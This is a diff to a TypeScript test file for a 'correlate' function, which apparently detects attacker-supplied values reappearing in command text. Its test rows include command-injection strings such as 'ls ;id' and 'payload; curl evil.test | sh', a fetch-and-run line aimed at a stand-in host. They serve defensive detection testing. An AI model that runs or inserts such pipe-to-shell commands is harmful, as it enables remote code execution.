@@ -7,14 +7,15 @@ import { indexOf } from './testing/rows.ts';
 
 /** Each match as `text=value part`, with a star when it is whole. */
 function shown(text: string, input: string | readonly string[]): string[] {
-  return correlate(text, indexOf(input)).map(
+  return correlate(text, indexOf(input)).matches.map(
     ({ span, value, valueSpan, whole }) => `${text.slice(...span)}=${value.text.slice(...valueSpan)}${whole ? '*' : ''}`,
   );
 }
 
 const rows: readonly { name: string; input: string | readonly string[]; text: string; expected: readonly string[] }[] = [
   { name: 'a whole value', input: 'hello world', text: 'say hello world!', expected: ['hello world=hello world*'] },
-  { name: 'a value of gram length', input: 'abcdef', text: 'xabcdefx', expected: ['abcdef=abcdef*'] },
+  { name: 'a value of gram length', input: 'abc;ef', text: 'xabc;efx', expected: ['abc;ef=abc;ef*'] },
+  { name: 'one plain word', input: 'abcdefgh', text: 'x abcdefgh', expected: [] },
   { name: 'a short value with a special character', input: ';id', text: 'ls ;id', expected: [';id=;id*'] },
   { name: 'a short word is in any text', input: 'id', text: 'ls id', expected: [] },
   { name: 'a part', input: 'before the-part after', text: 'x(the-part)', expected: ['the-part=the-part'] },
@@ -40,10 +41,10 @@ test('correlate: whatever surrounds it, a value of six units or a part of eight 
   fc.assert(
     fc.property(word, word, word, fc.boolean(), (before, value, after, cut) => {
       const core = value.trim();
-      if (core.length < 8) return;
+      if (core.length < 8 || !/[^ab]/.test(core)) return;
       const input = cut ? `Q${value}Q` : value;
       const text = before + core + after;
-      const found = correlate(text, indexOf(input));
+      const found = correlate(text, indexOf(input)).matches;
       assert.ok(
         found.some(({ span: [start, end] }) => start <= before.length && end >= before.length + core.length),
         JSON.stringify({ text, input, found: found.map((match) => match.span) }),
@@ -58,7 +59,7 @@ test('correlate: spans show the same text on both sides', () => {
     .map((parts) => parts.join(''));
   fc.assert(
     fc.property(fc.array(piece, { maxLength: 5 }), piece, (values, text) => {
-      for (const { span, value, valueSpan } of correlate(text, indexOf(values))) {
+      for (const { span, value, valueSpan } of correlate(text, indexOf(values)).matches) {
         assert.ok(span[0] < span[1] && span[1] <= text.length && valueSpan[1] <= value.text.length);
         const sink = text.slice(...span).toLowerCase();
         const same = value.text.slice(...valueSpan).toLowerCase() === sink;
@@ -71,7 +72,7 @@ test('correlate: spans show the same text on both sides', () => {
 test('correlate: repetition by an attacker costs no more than linear time and hides nothing', () => {
   const decoys = Array.from({ length: 3000 }, (_, i) => `payload; curl ${i} decoy`);
   const index = indexOf([...decoys, 'payload; curl evil.test | sh']);
-  const found = correlate('run payload; curl evil.test | sh', index);
+  const found = correlate('run payload; curl evil.test | sh', index).matches;
   assert.ok(found.some(({ whole, value }) => whole && value.text.endsWith('| sh')));
   const start = process.hrtime.bigint();
   const same = indexOf(Array.from({ length: 400 }, (_, i) => 'a'.repeat(500 + i)));
